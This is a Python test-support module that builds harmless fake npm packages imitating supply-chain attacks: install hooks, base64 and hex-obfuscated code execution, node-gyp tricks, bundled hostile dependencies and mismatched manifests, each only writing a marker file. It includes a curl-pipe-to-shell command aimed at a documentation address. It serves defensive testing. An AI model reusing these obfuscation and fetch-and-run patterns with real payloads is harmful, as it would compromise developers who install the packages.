"""Harmless stand-ins for real attacks on npm's users: each looks like the real thing and only ever writes a marker file.

Nothing here reaches a network: 192.0.2.1 is a documentation address.
"""

from __future__ import annotations

import base64
import json
from typing import TYPE_CHECKING

from tests.support.npm_packages import Packed, as_json, package

if TYPE_CHECKING:
    from pathlib import Path


def write(marker: Path) -> str:
    """What the hidden code does."""
    return f"require('fs').writeFileSync({json.dumps(str(marker))}, 'ran');"


# --- lines of a script ----------------------------------------------------------------------------------------------


def recon(marker: Path) -> str:
    return f"id > {marker}"


def download_and_run(marker: Path) -> str:
    return f"curl -s --connect-timeout 0.1 -m 0.3 http://192.0.2.1/x | sh; touch {marker}"


# --- JavaScript -----------------------------------------------------------------------------------------------------


def spawn_shell(marker: Path) -> str:
    return f"require('child_process').execSync({json.dumps(recon(marker))});\n"


def decode_then_exec(marker: Path) -> str:
    hidden = base64.b64encode(write(marker).encode()).decode()
    return f'const code = Buffer.from("{hidden}", "base64").toString();\nnew Function("require", code)(require);\n'


def rebuilt_names(marker: Path) -> str:
    """The name of the module comes out of pieces, the command out of hex."""
    hidden = recon(marker).encode().hex()
    return f'const m = ["child", "process"].join("_");\nrequire(m).exec(Buffer.from("{hidden}", "hex").toString());\n'


# --- packages -------------------------------------------------------------------------------------------------------


def hooked(name: str, marker: Path, version: str = "1.0.0", *, hook: str = "postinstall") -> Packed:
    """Its hook looks around and writes down what it found."""
    return package(name, version, scripts={hook: recon(marker)})


def waiting(name: str, marker: Path, version: str = "1.0.0") -> Packed:
    """Its code runs when somebody requires it."""
    return package(name, version, {"index.js": decode_then_exec(marker)})


def program(name: str, marker: Path, version: str = "1.0.0", *, command: str | None = None) -> Packed:
    """Its code runs when somebody starts its command, with npx for example."""
    files = {"cli.js": "#!/usr/bin/env node\n" + decode_then_exec(marker)}
    return package(name, version, files, bin={command or name: "cli.js"}, executable=("cli.js",))


def gyp(name: str, marker: Path, version: str = "1.0.0") -> Packed:
    """No script at all: npm itself starts node-gyp, which asks `node` for the list of sources."""
    binding = "{'targets': [{'target_name': 'moss', 'type': 'none', 'sources': ['<!(node lib/index.js)']}]}\n"
    files = {"binding.gyp": binding, "lib/index.js": decode_then_exec(marker) + "console.log('moss.c');\n"}
    return package(name, version, files)


def bundling(name: str, marker: Path, version: str = "1.0.0") -> Packed:
    """It carries a hostile package inside, which no registry is ever asked for."""
    inner = {"name": "quietharbour", "version": "1.0.0", "scripts": {"postinstall": recon(marker)}}
    return package(
        name,
        version,
        {"node_modules/quietharbour/package.json": as_json(inner)},
        dependencies={"quietharbour": "1.0.0"},
        bundleDependencies=["quietharbour"],
    )


def confused(name: str, marker: Path, version: str = "1.0.0") -> Packed:
    """The registry shows another manifest than the one in the tarball, with an honest hook."""
    honest = {"name": name, "version": version, "scripts": {"postinstall": "node --version"}}
    return package(name, version, scripts={"postinstall": recon(marker)}, says=honest)
